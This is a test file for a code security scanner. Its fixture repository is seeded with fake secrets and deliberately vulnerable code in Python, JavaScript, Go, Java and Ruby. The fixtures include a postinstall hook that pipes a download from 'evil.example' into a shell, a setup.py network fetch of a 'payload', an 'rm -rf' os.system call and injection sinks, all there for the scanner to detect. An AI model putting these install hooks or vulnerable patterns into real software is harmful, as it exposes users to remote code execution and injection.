// security_scan through the real engine: secrets (comments included, placeholders excluded,
// values redacted), language-scoped anti-patterns with their look-alikes, comment/string
// filtering from the syntax tree, nosec, custom rules, the dependency audit, modes, errors,
// score, autofix diffs, limit, sort order and the text layout.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Finding } from '../../src/engine/analysis/security/types.js';
import type { Project } from '../../src/engine/project.js';
import { invoke } from '../../src/operations/execute.js';
import { operationNamed } from '../../src/operations/registry.js';
import { makeRepo, openIndexed, removeDir } from '../helpers/fixture.js';

const lines = (...l: string[]) => `${l.join('\n')}\n`;

const FILES: Record<string, string> = {
  '.gitignore': '.env.local\n',
  '.env': lines('DB_PASSWORD=Sup3rS3cret', 'OTHER_PASSWORD=changeme', 'API_KEY=${API_KEY}'),
  '.env.local': lines('DB_PASSWORD=Ign0redS3cret'),
  'secrets/keys.py': lines(
    'OPENAI_KEY = "sk-proj-Ab3dEf6hIj9kLm2nOp5qRs8t"',
    '# ANTHROPIC = "sk-ant-api03-Zx9Yw8Vu7Ts6Rq5Po4Nm"',
    'GH = "ghp_0123456789abcdefghijABCDEFGHIJ012345"',
    'OAUTH = "gho_0123456789abcdefghijABCDEFGHIJ012345"',
    'AWS_ID = "AKIA2E0A8F3B244C9986"',
    'aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz1234567A"',
    'api_key = "a1b2c3d4e5f6g7h8i9j0"',
    'password = "hunter22!"',
    'token = "tok_4f9a8b7c6d5e4f3a2b1c0d9e"',
    'JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"',
    'SLACK = "https://hooks.slack.com/services/T01ABCDEF/B02GHIJKL/abcdefghijklmnop1234"',
    'DB = "postgres://admin:s3cr3tPw@db.internal:5432/app"',
    'headers = {"Authorization": "Bearer abcdef0123456789abcdef0123"}',
    'KEY = """',
    '-----BEGIN RSA PRIVATE KEY-----',
    'MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgHcT',
    '-----END RSA PRIVATE KEY-----"""',
  ),
  'secrets/placeholders.py': lines(
    'password = "changeme"',
    'api_key = "xxxxxxxxxxxxxxxxxxxxxxxx"',
    'secret_key = "${SECRET_KEY}"',
    'AWS_ID = "AKIAIOSFODNN7EXAMPLE"',
    'aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"',
    'password = "<your-password>"',
    'DB = "postgres://user:password@localhost/db"',
    'HEADER = "-----BEGIN RSA PRIVATE KEY-----"',
  ),
  'web/config.js': lines(
    'const apiKey = process.env.API_KEY;',
    'const token = process.env.GITHUB_TOKEN || "";',
    'const password = process.env.DB_PASSWORD;',
  ),
  'py/app.py': lines(
    'import os, pickle, subprocess, tempfile, yaml, hashlib, random, requests',
    'result = eval(user_input)',
    '# eval(user_input) is dangerous',
    'print("never call eval(x) here")',
    'value = ast.literal_eval(data)',
    'subprocess.run(cmd, shell=True)',
    'subprocess.run(["ls"], shell=False)',
    'data = yaml.load(stream)',
    'safe = yaml.safe_load(stream)',
    'obj = pickle.loads(blob)',
    'requests.get(url, verify=False)',
    'path = tempfile.mktemp()',
    'os.system("rm -rf " + d)',
    'cursor.execute(f"SELECT * FROM users WHERE id = {uid}")',
    'cursor.execute("SELECT * FROM users WHERE id = %s", (uid,))',
    'digest = hashlib.md5(data)',
    'token = random.choice(alphabet)',
    'idx = random.choice(items)',
    'subprocess.call(cmd, shell=True)  # nosec',
    'model.eval()',
    'api_password = "Tr0ub4dor&3"  # nosec',
    'conf = yaml.load(stream, Loader=yaml.SafeLoader)',
  ),
  'py/fstr.py': lines('msg = f"value {eval(x)}"', 'msg2 = f"do not eval(x) here"'),
  'py/settings.py': lines('DEBUG = True', 'CORS_ALLOW_ALL_ORIGINS = True', 'SESSION_COOKIE_HTTPONLY = False'),
  'py/views.py': lines(
    'from django.views.decorators.csrf import csrf_exempt',
    'from django.utils.safestring import mark_safe',
    '',
    '@csrf_exempt',
    'def view(request):',
    '    return mark_safe(request.GET["x"])',
    '',
    'app.run(debug=True)',
  ),
  'py/net.py': lines('HOST = "10.1.2.3"', 'LOCAL = "127.0.0.1"', 'VERSION = "1.2.3"', '# server at 192.168.1.20'),
  'py/unicode.py': lines('# access check \u202E reversed', 'x = 1'),
  'py/debug.py': lines('print("debug: value", v)', '# TODO security: check auth', 'print("done")'),
  'web/app.js': lines(
    'const out = eval(code);',
    '// eval(code) would be bad',
    'const msg = "do not eval(code)";',
    'function evaluate(expr) { return expr; }',
    'calc.evaluate(x);',
    'el.innerHTML = userHtml;',
    'const html = el.innerHTML;',
    'document.write(x);',
    'setTimeout("tick()", 100);',
    'setTimeout(tick, 100);',
    'const mod = require(name);',
    "const fs = require('fs');",
    'exec(`ls ${dir}`);',
    'win.postMessage(data, "*");',
    'new RegExp(pattern);',
    'new RegExp("^a+$");',
    'obj.__proto__.polluted = true;',
    'User.find(req.body);',
    'el.innerHTML = safe; // nosec',
    '/el.innerHTML = x/.test(s);',
  ),
  'web/tpl.ts': lines('const a = `result: ${eval(code)}`;', 'const b = `never eval(code) in templates`;'),
  'web/view.tsx': lines(
    'export const View = ({ html }: { html: string }) => <div dangerouslySetInnerHTML={{ __html: html }} />;',
    'export const note = "avoid dangerouslySetInnerHTML= in views";',
  ),
  'web/server.js': lines(
    'app.use(cors());',
    'res.cookie("sid", id, { httpOnly: false });',
    'const server = new ApolloServer({ schema, introspection: true });',
    'db.query(`SELECT * FROM users WHERE id = ${id}`);',
  ),
  'go/db.go': lines(
    'package db',
    '',
    'import ("crypto/tls"; "fmt")',
    '',
    'func q(id string) string { return fmt.Sprintf("SELECT * FROM users WHERE id = %s", id) }',
    'func label(n string) string { return fmt.Sprintf("user %s", n) }',
    'var cfg = &tls.Config{InsecureSkipVerify: true}',
    '// InsecureSkipVerify: true is what we avoid',
  ),
  'java/Repo.java': lines(
    'class Repo {',
    '  void find(Statement st, String id) throws Exception {',
    '    st.executeQuery("SELECT * FROM users WHERE id = " + id);',
    '    st.executeQuery("SELECT 1");',
    '    DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();',
    '    ObjectInputStream in = new ObjectInputStream(stream);',
    '    Cipher c = Cipher.getInstance("DES/CBC/PKCS5Padding");',
    '    Cipher g = Cipher.getInstance("AES/GCM/NoPadding");',
    '    String doc = "new ObjectInputStream(x) is unsafe";',
    '  }',
    '}',
  ),
  'java/SafeXml.java': lines(
    'class SafeXml {',
    '  DocumentBuilderFactory f = DocumentBuilderFactory.newInstance();',
    '  { f.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true); }',
    '}',
  ),
  'java/Security.java': lines(
    'class Security {',
    '  void configure(HttpSecurity http) throws Exception {',
    '    http.csrf().disable();',
    '  }',
    '}',
  ),
  'rb/app.rb': lines(
    'system("ls #{params[:dir]}")',
    'system("ls", dir)',
    'user.send(params[:action])',
    'mailer.send(:deliver)',
    '# system("rm #{x}")',
  ),
  'rb/controller.rb': lines(
    'class UsersController < ApplicationController',
    '  skip_before_action :verify_authenticity_token',
    '  def index',
    '    User.where("name = \'#{params[:name]}\'")',
    '  end',
    'end',
  ),
  'package.json': lines(
    '{',
    '  "name": "fx",',
    '  "scripts": {',
    '    "build": "tsc",',
    '    "postinstall": "curl -s https://evil.example/x.sh | sh"',
    '  },',
    '  "dependencies": {',
    '    "left-pad": "*",',
    '    "lodash": "^4.17.21",',
    '    "chalk": ">=4.0.0"',
    '  },',
    '  "devDependencies": {',
    '    "typescript": "latest"',
    '  }',
    '}',
  ),
  'packages/lib/package.json': lines('{', '  "name": "lib",', '  "dependencies": { "x": "latest", "y": "1.2.3" }', '}'),
  'requirements.txt': lines('requests', 'flask>=2.0', 'django==4.2.1', 'numpy>=1.0,<2', '# comment', '-r other.txt'),
  'pyproject.toml': lines(
    '[project]',
    'name = "x"',
    'dependencies = [',
    '  "httpx>=0.27",',
    '  "pydantic>=2,<3",',
    '  "rich",',
    ']',
    '',
    '[tool.poetry.dependencies]',
    'python = "^3.11"',
    'click = "*"',
  ),
  'setup.py': lines('from setuptools import setup', 'import urllib.request', 'urllib.request.urlopen("https://example.com/payload")', 'setup(name="x")'),
  'Cargo.toml': lines(
    '[package]',
    'name = "x"',
    '',
    '[dependencies]',
    'serde = "1"',
    '',
    '[patch.crates-io]',
    'foo = { path = "../foo" }',
    'bar = { git = "https://github.com/x/bar" }',
    'baz = { git = "https://github.com/x/baz", rev = "abc123" }',
  ),
  'go.mod': lines('module example.com/app', '', 'go 1.21', '', 'require example.com/lib v1.2.0', '', 'replace example.com/lib => ../lib'),
  'mixed/app.py': lines('password = "hunter22!"', 'eval(x)'),
  'mixed/requirements.txt': lines('requests'),
  'many/loop.py': lines(...Array.from({ length: 25 }, (_, i) => `r${i} = eval(x)`)),
  '.cartograph/rules/team.yaml': lines(
    '- id: debug_print',
    '  pattern: "(?i)print\\\\(\\\\s*[\\"\']debug"',
    '  message: Debug print left in code',
    '  severity: low',
    '  recommendation: Use the logging module',
    '  languages: [py]',
    '  fix:',
    '    search: "print("',
    '    replace: "logger.debug("',
    '- id: security_todo',
    '  pattern: "TODO\\\\s+security"',
    '  message: Security TODO left open',
    '  severity: info',
    '  cwe: 1164',
    '  recommendation: Resolve it before release',
    '  scan_comments: true',
  ),
  '.cartograph/rules/broken.yaml': 'id: [unclosed\n',
  '.attocode/rules/legacy.yaml': lines(
    '- id: bad_regex',
    '  pattern: "([a-z"',
    '  message: x',
    '  severity: low',
    '  recommendation: y',
    '- id: bad_severity',
    '  pattern: "x"',
    '  message: x',
    '  severity: urgent',
    '  recommendation: y',
  ),
};

let root: string;
let project: Project;

beforeAll(async () => {
  root = makeRepo(FILES, { git: true });
  project = await openIndexed(root);
});
afterAll(async () => { await project.close(); removeDir(root); });

interface ScanOutput {
  mode: string; path: string; score: number; files_scanned: number; duration_ms: number; findings: Finding[];
  total_findings: number; summary: Record<string, number>; notes?: string[];
  truncated?: { shown: number; total: number; by: string };
}

async function scan(args: Record<string, unknown>): Promise<ScanOutput> {
  const res = await invoke(operationNamed('security_scan')!, project, args);
  if (!res.ok) throw res.error;
  return res.output as unknown as ScanOutput;
}

/** The full scan of the whole fixture, run once. */
let fullScan: Promise<ScanOutput> | undefined;
const all = (): Promise<ScanOutput> => (fullScan ??= scan({ mode: 'full', limit: 2000 }));

/** [rule_id, line] of one file's findings, in line order. */
async function hits(path: string): Promise<Array<[string, number]>> {
  return (await all()).findings.filter((f) => f.file_path === path)
    .sort((a, b) => a.line - b.line || a.rule_id.localeCompare(b.rule_id))
    .map((f) => [f.rule_id, f.line]);
}

describe('security_scan: secrets', () => {
  it('finds each kind of secret, including one in a comment', async () => {
    expect(await hits('secrets/keys.py')).toEqual([
      ['openai_key', 1], ['anthropic_key', 2], ['github_token', 3], ['github_oauth', 4], ['aws_access_key', 5],
      ['aws_secret_key', 6], ['generic_api_key', 7], ['password_assignment', 8], ['auth_token', 9], ['jwt_token', 10],
      ['slack_webhook', 11], ['connection_string', 12], ['bearer_token', 13], ['private_key', 15],
    ]);
    const byRule = new Map((await all()).findings.filter((f) => f.file_path === 'secrets/keys.py').map((f) => [f.rule_id, f]));
    expect(byRule.get('openai_key')).toMatchObject({ severity: 'critical', category: 'secret', cwe: 'CWE-798', col: 15 });
    expect(byRule.get('private_key')).toMatchObject({ severity: 'critical', cwe: 'CWE-321' });
    expect(byRule.get('auth_token')?.severity).toBe('medium');
  });

  it('leaves placeholders and environment lookups alone', async () => {
    expect(await hits('secrets/placeholders.py')).toEqual([]);
    expect(await hits('web/config.js')).toEqual([]);
  });

  it('reads .env files that are not ignored, unquoted values included', async () => {
    expect(await hits('.env')).toEqual([['password_assignment', 1]]);
    expect((await all()).findings.some((f) => f.file_path === '.env.local')).toBe(false);
  });

  it('redacts every secret value to its first 4 characters', async () => {
    const keys = (await all()).findings.filter((f) => f.file_path === 'secrets/keys.py');
    const snippet = (rule: string) => keys.find((f) => f.rule_id === rule)!.snippet;
    expect(snippet('openai_key')).toBe('OPENAI_KEY = "sk-p…"');
    expect(snippet('anthropic_key')).toBe('# ANTHROPIC = "sk-a…"');
    expect(snippet('password_assignment')).toBe('password = "hunt…"');
    expect(snippet('connection_string')).toBe('DB = "postgres://admin:s3cr…@db.internal:5432/app"');
    expect(snippet('bearer_token')).toBe('headers = {"Authorization": "Bearer abcd…"}');
    const text = (await invoke(operationNamed('security_scan')!, project, { mode: 'secrets', limit: 2000 }));
    expect(text.ok && text.text).not.toMatch(/hunter22|Ab3dEf6h|s3cr3tPw|Sup3rS3cret/);
  });

  it('nosec silences patterns but never secrets', async () => {
    const app = await hits('py/app.py');
    expect(app).toContainEqual(['password_assignment', 21]);
    expect(app.filter(([, line]) => line === 19)).toEqual([]);
    expect((await hits('web/app.js')).filter(([, line]) => line === 19)).toEqual([]);
  });
});

describe('security_scan: anti-patterns', () => {
  it('Python: each risky call, not its look-alikes', async () => {
    expect(await hits('py/app.py')).toEqual([
      ['python_eval', 2], ['python_shell_true', 6], ['python_yaml_unsafe', 8], ['python_pickle', 10], ['python_verify_false', 11],
      ['python_tempfile_insecure', 12], ['python_os_system', 13], ['python_sql_injection', 14], ['python_weak_hash', 16],
      ['python_weak_random', 17], ['password_assignment', 21],
    ]);
    expect(await hits('py/fstr.py')).toEqual([['python_eval', 1]]);
  });

  it('JavaScript/TypeScript: each sink, not reads, comments, strings, regex literals or template text', async () => {
    expect(await hits('web/app.js')).toEqual([
      ['js_eval', 1], ['js_innerhtml', 6], ['js_document_write', 8], ['js_string_timer', 9], ['js_dynamic_require', 11],
      ['js_child_process_exec', 13], ['js_postmessage_star', 14], ['js_regexp_variable', 15], ['js_prototype_pollution', 17],
      ['js_nosql_injection', 18],
    ]);
    expect(await hits('web/tpl.ts')).toEqual([['js_eval', 1]]);
    expect(await hits('web/view.tsx')).toEqual([['js_dangerously_set', 1]]);
  });

  it('Go, Java and Ruby', async () => {
    expect(await hits('go/db.go')).toEqual([['go_sql_sprintf', 5], ['go_insecure_skip_verify', 7]]);
    expect(await hits('java/Repo.java')).toEqual([['java_sql_concat', 3], ['java_xxe', 5], ['java_deserialization', 6], ['java_weak_cipher', 7]]);
    expect(await hits('java/SafeXml.java')).toEqual([]);
    expect(await hits('rb/app.rb')).toEqual([['ruby_system_interpolation', 1], ['ruby_send_user_input', 3]]);
  });

  it('framework packs and generic rules', async () => {
    expect(await hits('py/settings.py')).toEqual([['django_debug', 1], ['django_cors_all', 2], ['cookie_httponly_false', 3]]);
    expect(await hits('py/views.py')).toEqual([['django_csrf_exempt', 4], ['django_mark_safe', 6], ['flask_debug', 8]]);
    expect(await hits('web/server.js')).toEqual([
      ['express_cors_all', 1], ['cookie_httponly_false', 2], ['graphql_introspection', 3], ['express_raw_sql', 4],
    ]);
    expect(await hits('java/Security.java')).toEqual([['spring_csrf_disabled', 3]]);
    expect(await hits('rb/controller.rb')).toEqual([['rails_csrf_skipped', 2], ['rails_raw_sql', 4]]);
    expect(await hits('py/net.py')).toEqual([['hardcoded_ip', 1]]);
    expect(await hits('py/unicode.py')).toEqual([['invisible_unicode', 1]]);
    expect((await all()).findings.find((f) => f.rule_id === 'invisible_unicode')?.snippet).toBe('# access check \\u202E reversed');
  });

  it('offers the four autofixes as unified diffs', async () => {
    const fixes = (await all()).findings.filter((f) => f.file_path === 'py/app.py' && f.fix).map((f) => f.fix);
    expect(fixes).toEqual([
      '--- a/py/app.py\n+++ b/py/app.py\n@@ -6,1 +6,1 @@\n-subprocess.run(cmd, shell=True)\n+subprocess.run(cmd, shell=False)',
      '--- a/py/app.py\n+++ b/py/app.py\n@@ -8,1 +8,1 @@\n-data = yaml.load(stream)\n+data = yaml.safe_load(stream)',
      '--- a/py/app.py\n+++ b/py/app.py\n@@ -11,1 +11,1 @@\n-requests.get(url, verify=False)\n+requests.get(url, verify=True)',
      '--- a/py/app.py\n+++ b/py/app.py\n@@ -12,1 +12,1 @@\n-path = tempfile.mktemp()\n+path = tempfile.mkstemp()',
    ]);
  });
});

describe('literal ranges (parser worker job)', () => {
  it('gives comments and string text with interpolated code cut out, in 1-based code-point columns', async () => {
    const ranges = await project.literalRanges([
      { path: 'web/tpl.ts', text: FILES['web/tpl.ts']! },
      { path: 'py/fstr.py', text: FILES['py/fstr.py']! },
      { path: 'web/astral.js', text: 'const s = "\u{1F600}"; // c\n' },
      { path: 'notes.txt', text: 'no parser' },
    ]);
    const r = (kind: string, start_line: number, start_col: number, end_line: number, end_col: number) => ({ kind, start_line, start_col, end_line, end_col });
    expect(Object.fromEntries(ranges)).toEqual({
      'web/tpl.ts': [r('string', 1, 11, 1, 19), r('string', 1, 33, 1, 33), r('string', 2, 11, 2, 41)],
      'py/fstr.py': [r('string', 1, 7, 1, 14), r('string', 1, 24, 1, 24), r('string', 2, 8, 2, 29)],
      'web/astral.js': [r('string', 1, 11, 1, 13), r('comment', 1, 16, 1, 19)],
    });
  });
});

describe('security_scan: custom rules', () => {
  it('applies valid rules (comments only when they opt in) and reports invalid files and rules in notes', async () => {
    expect(await hits('py/debug.py')).toEqual([['debug_print', 1], ['security_todo', 2]]);
    const debug = (await all()).findings.find((f) => f.rule_id === 'debug_print')!;
    expect(debug).toMatchObject({ severity: 'low', category: 'anti_pattern', cwe: '', suggestion: 'Use the logging module' });
    expect(debug.fix).toBe('--- a/py/debug.py\n+++ b/py/debug.py\n@@ -1,1 +1,1 @@\n-print("debug: value", v)\n+logger.debug("debug: value", v)');
    expect((await all()).findings.find((f) => f.rule_id === 'security_todo')).toMatchObject({ severity: 'info', cwe: 'CWE-1164' });
    const notes = (await all()).notes ?? [];
    expect(notes.filter((n) => n.startsWith('Custom rule'))).toEqual([
      expect.stringMatching(/^Custom rule file \.cartograph\/rules\/broken\.yaml skipped: /),
      expect.stringMatching(/^Custom rule 1 in \.attocode\/rules\/legacy\.yaml skipped: invalid pattern "\(\[a-z"/),
      expect.stringMatching(/^Custom rule 2 in \.attocode\/rules\/legacy\.yaml skipped: severity: /),
    ]);
  });
});

describe('security_scan: dependency audit', () => {
  it('points at the manifest line of every finding, workspaces included', async () => {
    const deps = (await all()).findings.filter((f) => f.category === 'dependency')
      .map((f) => [f.file_path, f.line, f.rule_id, f.severity]);
    expect(deps.sort()).toEqual([
      ['Cargo.toml', 8, 'dep_unpinned_source', 'low'],
      ['Cargo.toml', 9, 'dep_unpinned_source', 'low'],
      ['go.mod', 7, 'dep_unpinned_source', 'low'],
      ['mixed/requirements.txt', 1, 'dep_no_version', 'medium'],
      ['package.json', 10, 'dep_open_range', 'low'],
      ['package.json', 13, 'dep_wildcard', 'high'],
      ['package.json', 5, 'dep_install_script', 'high'],
      ['package.json', 8, 'dep_wildcard', 'high'],
      ['packages/lib/package.json', 3, 'dep_wildcard', 'high'],
      ['pyproject.toml', 11, 'dep_no_version', 'medium'],
      ['pyproject.toml', 4, 'dep_open_range', 'low'],
      ['pyproject.toml', 6, 'dep_no_version', 'medium'],
      ['requirements.txt', 1, 'dep_no_version', 'medium'],
      ['requirements.txt', 2, 'dep_open_range', 'low'],
      ['setup.py', 3, 'dep_setup_network', 'high'],
    ]);
    const script = (await all()).findings.find((f) => f.rule_id === 'dep_install_script')!;
    expect(script).toMatchObject({
      cwe: 'CWE-506', col: 5, message: 'Install script "postinstall" pipes a download into a shell, downloads a remote script',
      snippet: '"postinstall": "curl -s https://evil.example/x.sh | sh"',
    });
    expect((await all()).notes).toContain('No vulnerability database was consulted (none is configured); dependency findings cover version pinning and install-time behaviour only.');
  });
});

describe('security_scan: modes, scope and errors', () => {
  it('each mode runs its own rule set', async () => {
    const rules = async (mode: string) => {
      const out = await scan({ mode, path: 'mixed' });
      return { rules: out.findings.map((f) => f.rule_id), files: out.files_scanned, mode: out.mode };
    };
    expect(await rules('quick')).toEqual({ rules: ['password_assignment'], files: 1, mode: 'quick' });
    expect(await rules('SECRETS')).toEqual({ rules: ['password_assignment'], files: 1, mode: 'secrets' });
    expect(await rules('patterns')).toEqual({ rules: ['python_eval'], files: 1, mode: 'patterns' });
    expect(await rules('dependencies')).toEqual({ rules: ['dep_no_version'], files: 1, mode: 'dependencies' });
    expect(await rules('full')).toEqual({ rules: ['password_assignment', 'python_eval', 'dep_no_version'], files: 2, mode: 'full' });
  });

  it('restricts to a file or directory', async () => {
    const out = await scan({ path: 'go/db.go' });
    expect(out.path).toBe('go/db.go');
    expect(out.findings.map((f) => f.rule_id)).toEqual(['go_sql_sprintf', 'go_insecure_skip_verify']);
    expect((await scan({ path: './web/' })).findings.every((f) => f.file_path.startsWith('web/'))).toBe(true);
  });

  it('refuses an unknown mode, a path outside the root and a missing path', async () => {
    const op = operationNamed('security_scan')!;
    const bad = await invoke(op, project, { mode: 'everything' });
    expect(bad.ok || bad.error.code).toBe('invalid_argument');
    const outside = await invoke(op, project, { path: '../elsewhere' });
    expect(outside.ok || [outside.error.code, outside.error.details?.reason]).toEqual(['invalid_argument', 'outside_root']);
    const missing = await invoke(op, project, { path: 'no/such/dir' });
    expect(missing.ok || missing.error.code).toBe('not_found');
  });
});

describe('security_scan: score, order, limit and text', () => {
  it('scores 100 − (20·critical + 10·high + 3·medium + 1·low), clamped to 0..100', async () => {
    expect((await scan({ path: 'go', mode: 'patterns' })).score).toBe(80);
    expect((await scan({ path: 'mixed' })).score).toBe(100 - 10 - 10 - 3);
    expect((await scan({ path: 'py/net.py' })).score).toBe(99);
    expect((await scan({ path: 'secrets/placeholders.py' })).score).toBe(100);
    expect((await all()).score).toBe(0);
    const { summary } = await all();
    expect(Object.values(summary).reduce((a, b) => a + b, 0)).toBe((await all()).total_findings);
  });

  it('sorts by severity, then path and line, and cuts at limit', async () => {
    const { findings } = await all();
    const rank = ['critical', 'high', 'medium', 'low', 'info'];
    const key = (f: Finding) => [rank.indexOf(f.severity), f.file_path, f.line] as const;
    for (let i = 1; i < findings.length; i++) {
      const [a, b] = [key(findings[i - 1]!), key(findings[i]!)];
      expect(a[0] < b[0] || (a[0] === b[0] && (a[1] < b[1] || (a[1] === b[1] && a[2] <= b[2]))), `${findings[i - 1]!.rule_id} before ${findings[i]!.rule_id}`).toBe(true);
    }
    const cut = await scan({ limit: 3 });
    expect(cut.findings).toEqual(findings.slice(0, 3));
    expect(cut.truncated).toMatchObject({ shown: 3, total: findings.length, by: 'limit' });
    expect(cut.total_findings).toBe(findings.length);
  });

  it('is deterministic', async () => {
    const strip = ({ duration_ms: _d, ...rest }: ScanOutput) => rest;
    expect(strip(await scan({ limit: 2000 }))).toEqual(strip(await all()));
  });

  it('renders the report layout', async () => {
    const op = operationNamed('security_scan')!;
    const render = async (args: Record<string, unknown>) => {
      const out = await scan(args);
      return op.render({ ...out, duration_ms: 7 } as never);
    };
    expect(await render({ path: 'go', mode: 'patterns' })).toBe([
      'Security Scan Report',
      'Score: 80/100 | Files: 1 | Time: 7ms',
      '',
      'Findings: high: 2',
      '',
      '## HIGH (2)',
      '  go/db.go:5 [CWE-89]',
      '    SQL query built with fmt.Sprintf: SQL injection risk',
      '    → Use placeholders ($1 or ?) and pass the values to Query/Exec',
      '  go/db.go:7 [CWE-295]',
      '    TLS certificate verification disabled (InsecureSkipVerify)',
      '    → Keep verification on; add the CA to RootCAs instead',
    ].join('\n'));
    expect(await render({ path: 'secrets/placeholders.py' })).toBe('Security Scan Report\nScore: 100/100 | Files: 1 | Time: 7ms\n\nNo security issues found.');
    const many = (await render({ path: 'many', mode: 'patterns' })).split('\n');
    expect(many.slice(3, 6)).toEqual(['Findings: high: 25', '', '## HIGH (25)']);
    expect(many.filter((l) => l.startsWith('  many/loop.py:'))).toHaveLength(20);
    expect(many.at(-1)).toBe('  ... and 5 more high findings');
    const autofix = await render({ path: 'py/app.py', mode: 'patterns' });
    expect(autofix).toContain([
      '  py/app.py:6 [CWE-78]',
      '    subprocess call with shell=True: command injection risk',
      '    → Pass the command as an argument list with shell=False',
      '    Autofix:',
      '      --- a/py/app.py',
      '      +++ b/py/app.py',
      '      @@ -6,1 +6,1 @@',
      '      -subprocess.run(cmd, shell=True)',
      '      +subprocess.run(cmd, shell=False)',
    ].join('\n'));
    const limited = await render({ limit: 2 });
    expect(limited.split('\n').at(-1)).toMatch(/^… \d+ more findings not shown \(limit=2\); raise limit or narrow path\.$/);
  });
});
